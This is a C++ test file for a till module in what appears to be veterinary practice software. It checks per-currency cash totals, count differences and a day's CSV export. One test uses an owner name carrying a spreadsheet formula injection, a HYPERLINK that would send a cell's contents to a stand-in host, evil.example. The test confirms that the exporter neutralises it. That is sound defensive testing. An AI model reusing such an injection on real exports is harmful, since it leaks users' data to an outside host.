// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/payments/till.h"

#include "core/payments/tillcsv.h"
#include "tests/support/catch.h"

using namespace huella;
using namespace huella::payments;

namespace {

Movement moved(Movement::Kind kind, const Money& amount, PaymentMethod method = PaymentMethod::Cash)
{
    Movement it;
    it.at = QDateTime(QDate(2026, 11, 26), QTime(10, 30));
    it.kind = kind;
    it.amount = amount;
    it.method = method;
    return it;
}

const TillWords words{{"Hora", "Acto", "Medio", "Monto", "Moneda", "Mascota", "Dueño", "Servicio",
                       "Por", "Motivo", "Referencia", "Cierre"},
                      {"0", "1", "2", "3"},
                      {"efectivo", "tarjeta", "transferencia", "mercado_pago"},
                      "por sí solo",
                      "abierto",
                      "cerrado",
                      "después del cierre"};

} // namespace

TEST_CASE("A day's lines sum up by currency and method, to the last cent", "[till]")
{
    for (const char* currency : {"ARS", "BRL", "CLP", "COP", "MXN", "PEN", "UYU"}) {
        QList<Movement> movements;
        for (int i = 0; i < 1000; ++i)
            movements.append(moved(Movement::Kind::Charge, Money(1010, currency)));
        movements.append(moved(Movement::Kind::Void, Money(-1010, currency)));
        movements.append(moved(Movement::Kind::Refund, Money(-7, currency)));
        movements.append(
            moved(Movement::Kind::Chargeback, Money(-500, currency), PaymentMethod::MercadoPago));
        const auto lines = linesOf(movements);
        REQUIRE(lines.size() == 2);
        CHECK(lines[0].movements == 1002);
        CHECK(lines[0].taken == Money(1010000, currency));
        CHECK(lines[0].expected() == Money(1008983, currency));
        CHECK(lines[1].method == PaymentMethod::MercadoPago);
        CHECK(lines[1].expected() == Money(-500, currency));
    }
}

TEST_CASE("Two currencies of one day are two lines, and cash is counted where none moved", "[till]")
{
    const auto lines =
        linesToCount({moved(Movement::Kind::Charge, Money(5000, "CLP")),
                      moved(Movement::Kind::Charge, Money(8550, "PEN"), PaymentMethod::Card)},
                     "PEN");
    REQUIRE(lines.size() == 3);
    CHECK(lines[0].expected() == Money(5000, "CLP"));
    CHECK(lines[1].method == PaymentMethod::Cash);
    CHECK(lines[1].expected() == Money(0, "PEN"));
    CHECK(lines[2].expected() == Money(8550, "PEN"));
}

TEST_CASE("The difference of a line is what was counted less what is expected", "[till]")
{
    auto line = linesOf({moved(Movement::Kind::Charge, Money(8550, "PEN"))}).first();
    CHECK(line.difference() == Money());
    line.counted = Money(8050, "PEN");
    CHECK(line.difference() == Money(-500, "PEN"));
}

TEST_CASE("The file of a day runs no formula of an owner's and sums up in his country", "[till]")
{
    TillDay day;
    day.day = QDate(2026, 11, 26);
    auto it = moved(Movement::Kind::Refund, Money(-123456, "ARS"), PaymentMethod::MercadoPago);
    it.owner = "=HYPERLINK(\"http://evil.example?\"&A1)";
    it.patient = "Ñusta; la grande";
    day.movements = {it};
    const QString file = QString::fromUtf8(tillCsv(day, words, QLocale("es_AR")));
    CHECK(file.contains(";-1234,56;ARS;"));
    CHECK(file.contains(";\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1)\";"));
    CHECK(file.contains(";\"Ñusta; la grande\";"));
    CHECK(file.contains("2026-11-26 10:30:00;2;mercado_pago;"));
    CHECK(file.contains("por sí solo"));
    CHECK(file.endsWith(";abierto\r\n"));
    CHECK(QString::fromUtf8(tillCsv(day, words, QLocale("es_MX"))).contains(";-1234.56;"));
    CHECK(tillFileName(day.day) == "cierre-2026-11-26.csv");

    day.closes = {DayClose{}};
    CHECK(tillCsv(day, words, QLocale("es_PE")).endsWith(";después del cierre\r\n"));
}
